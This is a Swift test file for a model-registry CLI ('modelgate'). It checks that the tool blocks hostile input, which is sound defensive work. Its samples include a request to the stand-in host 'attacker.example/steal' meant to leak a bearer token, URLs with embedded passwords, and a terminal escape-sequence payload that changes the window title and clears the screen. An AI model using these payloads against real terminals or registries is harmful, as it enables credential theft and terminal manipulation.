import Foundation
import ModelGateCatalog
import ModelGateCore
import Testing

/// Issue 15: hostile input reaching the CLI (registries' answers, configs, raw requests).
@Suite("Reliability: attacks — CLI")
struct ReliabilityAttacksCLITests {
    static let config = """
        registries:
          - name: ml
            kind: mlflow
            url: http://127.0.0.1:1/mlflow
            auth:
              type: bearer
              token: tok-s3cret-value
        """

    // Item 14: `modelgate request` with an absolute URL on another origin would have sent the registry's token there.
    @Test func anAbsoluteURLOnAnotherOriginIsRefusedBeforeAnythingIsSent() throws {
        let cli = try CLI()
        try cli.writeConfig(Self.config)
        for arguments in [["request", "ml", "GET", "https://attacker.example/steal"], ["request", "ml", "GET", "http://127.0.0.1:2/x", "--dry-run"]] {
            let result = try cli.run(arguments: arguments)
            #expect(result.status == 1, "\(arguments)")
            #expect(result.stderr.contains("not the registry's own origin"), "\(result.stderr)")
            #expect(!result.stderr.contains("tok-s3cret-value") && !result.stdout.contains("tok-s3cret-value"))
            #expect(!result.stderr.contains("failed to connect") && !result.stderr.contains("TLS"), "nothing was sent")
        }
        // The registry's own origin is accepted (shown with --dry-run, the token masked).
        let own = try cli.run("request", "ml", "GET", "http://127.0.0.1:1/mlflow/api/2.0/x", "--dry-run")
        #expect(own.status == 0, "\(own.stderr)")
        #expect(own.stdout.hasPrefix("GET http://127.0.0.1:1/mlflow/api/2.0/x"))
        #expect(!own.stdout.contains("tok-s3cret-value"))
    }
}

extension ReliabilityAttacksCLITests {
    func chmod(_ cli: CLI, _ name: String, _ mode: Int) throws {
        try FileManager.default.setAttributes(
            [.posixPermissions: mode], ofItemAtPath: cli.directory.appendingPathComponent(name).path)
    }

    // Item 15: a password in a registry URL was accepted and could surface wherever the URL is shown.
    @Test(arguments: ["url", "endpoint"])
    func aURLWithUserAndPasswordIsRefusedWithoutEchoingIt(key: String) throws {
        let cli = try CLI()
        let registry = key == "url"
            ? "    kind: mlflow\n    url: https://alice:hunter2-pass@mlflow.example.test/\n"
            : "    kind: sagemaker\n    region: us-east-1\n    endpoint: https://alice:hunter2-pass@sm.example.test\n"
        try cli.writeConfig("registries:\n  - name: a\n" + registry)
        try chmod(cli, "modelgate.yaml", 0o600)
        let result = try cli.run("registries")
        #expect(result.status == 1, "config errors exit 1, like every other config error")
        #expect(result.stderr.contains("modelgate.yaml:"), "\(result.stderr)")
        #expect(result.stderr.contains("registries[0].\(key)"), "\(result.stderr)")
        #expect(result.stderr.contains("must not hold credentials"))
        #expect(!result.stderr.contains("hunter2-pass") && !result.stdout.contains("hunter2-pass"))
    }

    // Item 15: a config file others can read holds tokens and passwords: warned about, once.
    @Test func aConfigFileReadableByOthersGetsOneWarning() throws {
        let cli = try CLI()
        try cli.writeConfig("registries:\n  - name: a\n    kind: mlflow\n    url: http://127.0.0.1:1\n")
        try chmod(cli, "modelgate.yaml", 0o644)
        let shared = try cli.run("registries")
        #expect(shared.status == 0, "a warning, not an error: \(shared.stderr)")
        let warnings = shared.stderr.components(separatedBy: "\n").filter { $0.hasPrefix("warning:") && $0.contains("modelgate.yaml") }
        #expect(warnings.count == 1, "\(shared.stderr)")
        #expect(warnings.first?.contains("chmod 600") == true)
        try chmod(cli, "modelgate.yaml", 0o600)
        let private_ = try cli.run("registries")
        #expect(!private_.stderr.contains("warning:"), "\(private_.stderr)")
    }
}

extension ReliabilityAttacksCLITests {
    static let hostile = "Card fraud\u{1B}]0;pwned\u{07}\u{1B}[2J\u{9B}31m\r!"

    static func seededWithEscapes() async throws -> CLI {
        let cli = try CLI()
        let catalog = try CatalogDatabase.open(path: cli.catalogPath)
        let t0 = CatalogCommandTests.t0
        _ = try await catalog.apply(
            page: CatalogPage(
                registry: "mlflow-prod", kind: .mlflow,
                models: [CatalogCommandTests.model("evil", description: hostile), CatalogCommandTests.model("red\u{1B}[31m")],
                versions: [
                    CatalogCommandTests.version("evil", "1", tags: ["team": "risk\u{1B}[5m"], description: hostile),
                    CatalogCommandTests.version("red\u{1B}[31m", "1"),
                ],
                lineage: [], errors: []),
            source: .sync, at: t0)
        return cli
    }

    static func hasControls(_ text: String) -> Bool {
        text.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 || $0.value == 0x9B || $0.value == 0x0D }
    }

    // Item 13: an ESC sequence in a registry's description reached the terminal raw (title change, screen clear).
    @Test func controlCharactersFromRegistriesAreEscapedInTablesAndText() async throws {
        let cli = try await Self.seededWithEscapes()
        for arguments in [["models"], ["versions"], ["show", "mlflow-prod:evil"], ["show", "mlflow-prod:evil@1"]] {
            let result = try cli.run(arguments: arguments + ["--catalog", cli.catalogPath])
            #expect(result.status == 0, "\(arguments): \(result.stderr)")
            #expect(!Self.hasControls(result.stdout), "\(arguments): \(result.stdout.debugDescription)")
            #expect(result.stdout.contains("\\u{1B}"), "\(arguments): escaped, still visible: \(result.stdout)")
        }
    }

    // Item 13: JSON output stays exact JSON: the same string comes back byte for byte.
    @Test func jsonOutputKeepsTheExactString() async throws {
        let cli = try await Self.seededWithEscapes()
        let result = try cli.run("show", "mlflow-prod:evil@1", "--catalog", cli.catalogPath, "--output", "json")
        #expect(result.status == 0, "\(result.stderr)")
        let json = try result.json()
        #expect(json["description"]?.stringValue == Self.hostile || json["version"]?["description"]?.stringValue == Self.hostile, "\(result.stdout)")
    }
}
